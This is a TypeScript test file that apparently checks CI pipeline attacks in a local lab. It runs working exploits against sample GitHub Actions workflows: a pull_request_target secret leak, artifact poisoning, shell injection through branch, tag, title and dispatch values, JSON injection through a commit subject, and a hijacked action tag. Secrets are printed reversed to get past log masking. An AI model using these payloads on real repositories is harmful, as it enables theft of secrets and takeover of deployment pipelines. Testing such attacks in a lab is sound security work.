import { afterAll, beforeAll, expect, test } from 'vitest';
import { split } from '../../src/lab/scenarios/deeds.ts';
import {
  type AttackLab,
  job,
  leaks,
  letRunsGo,
  newSecret,
  openAttackLab,
  printsSecrets,
  pullFrom,
  pullFromFork,
  ran,
  shell,
  write,
} from './attack-lab.ts';

// Minimal pipelines of our own, written as published ones are. Each attack has to succeed here, or it would prove
// nothing where it fails.

let stage: AttackLab;
beforeAll(async () => {
  stage = await openAttackLab();
}, 60_000);
afterAll(() => stage.close());

test('a fork’s pull request prints every secret where its code runs with the target’s secrets', async () => {
  const secret = newSecret();
  const repository = await stage.repository(
    'target',
    {
      'test.sh': 'true\n',
      '.github/workflows/ci.yml': `on: pull_request_target\n${job(`      - uses: actions/checkout@v4
      - run: |
          git fetch --quiet origin "pull/$NUMBER/head"
          git checkout --quiet FETCH_HEAD
          sh test.sh
        env: { NUMBER: "\${{ github.event.number }}", TOKEN: "\${{ secrets.BOT_TOKEN }}" }
`)}`,
    },
    { BOT_TOKEN: secret },
  );
  const printed = await stage.printed(() =>
    pullFromFork(stage, repository, 'fix', { 'test.sh': 'printf %s "$TOKEN" | rev\n' }),
  );
  expect(leaks(printed, secret)).toBe(true);
}, 60_000);

test('an artifact of a fork’s run is carried out beside the secrets of the deploy', async () => {
  const secret = newSecret();
  const repository = await stage.repository(
    'build-once',
    {
      'image.sh': 'true\n',
      '.github/workflows/ci.yml': `name: CI
on: { push: { branches: [main] }, pull_request: { branches: [main] } }
${job(`      - uses: actions/checkout@v4
      - uses: actions/upload-artifact@v4
        with: { name: docker-image, path: image.sh }
`)}`,
      '.github/workflows/cd.yml': `name: CD
on: { workflow_run: { workflows: [CI], types: [completed], branches: [main] } }
${job(`      - uses: actions/download-artifact@v4
        with: { name: docker-image, run-id: "\${{ github.event.workflow_run.id }}", github-token: "\${{ github.token }}" }
      - run: sh image.sh
        env: { AWS_ROLE: "\${{ secrets.AWS_ROLE }}" }
`)}`,
    },
    { AWS_ROLE: secret },
  );
  const printed = await stage.printed(async () => {
    // The filter sees the name of the branch, and a fork's is called main too.
    await pullFromFork(stage, repository, 'main', { 'image.sh': 'printf %s "$AWS_ROLE" | rev\n' });
    await letRunsGo(stage, repository);
  });
  expect(leaks(printed, secret)).toBe(true);
}, 60_000);

test('a workflow changed on a branch prints the repository’s secrets before anybody looks', async () => {
  const secret = newSecret();
  const repository = await stage.repository('repository-secret', { 'README.md': '' }, { BOT_TOKEN: secret });
  const printed = await stage.printed(() =>
    pullFrom(stage.alice, repository, 'fix', { '.github/workflows/ci.yml': printsSecrets }),
  );
  expect(leaks(printed, secret)).toBe(true);
}, 60_000);

test('names of branches and tags, titles, messages, inputs and payloads are carried out by the shell', async () => {
  const repository = await stage.repository('words', {
    '.github/workflows/publish.yml': `on: { push: { branches: ["hotfixes/*"], tags: ["v*"] } }
${job(`      - run: |
          if [[ push == push ]] && [[ \${{ github.ref }} == refs/heads/main ]]; then echo main; fi
      - run: echo "\${{ github.ref_name }}"
`)}`,
    '.github/workflows/title.yml': `on: pull_request
${job('      - run: echo "${{ github.event.pull_request.title }}"\n')}`,
    '.github/workflows/hotfix.yml': `on: { workflow_dispatch: { inputs: { branch_name: { required: true, type: string } } } }
${job('      - run: echo hotfixes/${{ github.event.inputs.branch_name }}\n')}`,
    '.github/workflows/receive.yml': `on: { repository_dispatch: { types: [update-gitops-repo] } }
${job('      - run: echo "${{ github.event.client_payload.git_branch }}"\n')}`,
  });
  const { alice } = stage;
  const where = split(repository);
  const push = async (ref: string): Promise<void> => {
    const clone = await alice.clone(repository);
    await clone.startBranch('work', 'origin/main');
    expect((await clone.push(ref)).said).not.toContain('rejected');
  };
  const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
    branch: () => push(`refs/heads/hotfixes/x$(${shell}>&2)`),
    tag: () => push(`refs/tags/v1";${shell};"`),
    title: () => pullFrom(alice, repository, 'fix', { 'README.md': 'x' }, `"; ${shell}; "`),
    input: () =>
      alice.api.rest.actions.createWorkflowDispatch({
        ...where,
        workflow_id: 'hotfix.yml',
        ref: 'main',
        inputs: { branch_name: `x; ${shell}` },
      }),
    payload: () =>
      alice.api.rest.repos.createDispatchEvent({
        ...where,
        event_type: 'update-gitops-repo',
        client_payload: { git_branch: `"; ${shell}; "` },
      }),
  };
  for (const [name, attack] of Object.entries(attacks)) expect(await stage.printed(attack), name).toMatch(ran);
}, 60_000);

test('a commit’s subject chooses another image tag for the dispatch than the one that was built', async () => {
  const repository = await stage.repository(
    'dispatch',
    {
      '.github/workflows/ci.yml': `on: { push: { branches: [main] } }
permissions: { contents: write }
${job(`      - uses: actions/checkout@v4
      - run: |
          commitMsg=$(git log -n 1 --oneline --format=%s)
          curl -sS -X POST https://api.github.com/repos/published/dispatch/dispatches -H "Authorization: Bearer $TOKEN" \\
            --data '{"event_type": "update", "client_payload": { "docker_image_tag": "1.0-dev", "commit_message": "'"$commitMsg"'" }}'
        env: { TOKEN: "\${{ secrets.PAT }}" }
`)}`,
      '.github/workflows/receive.yml': `on: { repository_dispatch: { types: [update] } }
${job('      - run: echo "deploying $TAG"\n        env: { TAG: "${{ github.event.client_payload.docker_image_tag }}" }\n')}`,
    },
    { PAT: stage.alice.token },
  );
  const printed = await stage.printed(async () => {
    const clone = await stage.alice.clone(repository);
    await clone.startBranch('work', 'origin/main');
    write(clone, { 'README.md': 'x' });
    await clone.commit('Fix it", "docker_image_tag": "evil-prod');
    await clone.push('refs/heads/main');
  });
  expect(printed).toContain('deploying evil-prod');
}, 60_000);

test('a tag of an action that is moved runs other code beside the secret', async () => {
  const secret = newSecret();
  const action = await stage.repository('tool', {
    'action.yml': 'name: tool\ndescription: tool\nruns: { using: composite, steps: [{ shell: bash, run: "true" }] }\n',
  });
  const clone = await stage.owner.clone(action);
  const before = await clone.git('rev-parse', 'HEAD');
  await clone.push('refs/tags/v1');
  const uses = (ref: string): string => `on: workflow_dispatch
${job(`      - uses: published/tool@${ref}
        env: { TOKEN: "\${{ secrets.TOKEN }}" }
`)}`;
  const repository = await stage.repository(
    'moved-tag',
    { '.github/workflows/tag.yml': uses('v1'), '.github/workflows/sha.yml': uses(before) },
    { TOKEN: secret },
  );
  write(clone, {
    'action.yml':
      'name: tool\ndescription: tool\nruns: { using: composite, steps: [{ shell: bash, run: "printf %s $TOKEN | rev" }] }\n',
  });
  await clone.commit('Take it');
  await clone.push('refs/heads/main');
  await clone.git('push', '--force', '--quiet', 'origin', 'HEAD:refs/tags/v1');
  const press = (workflow_id: string): Promise<string> =>
    stage.printed(() =>
      stage.alice.api.rest.actions.createWorkflowDispatch({ ...split(repository), workflow_id, ref: 'main' }),
    );
  expect(leaks(await press('tag.yml'), secret)).toBe(true);
  expect(leaks(await press('sha.yml'), secret)).toBe(false);
}, 60_000);
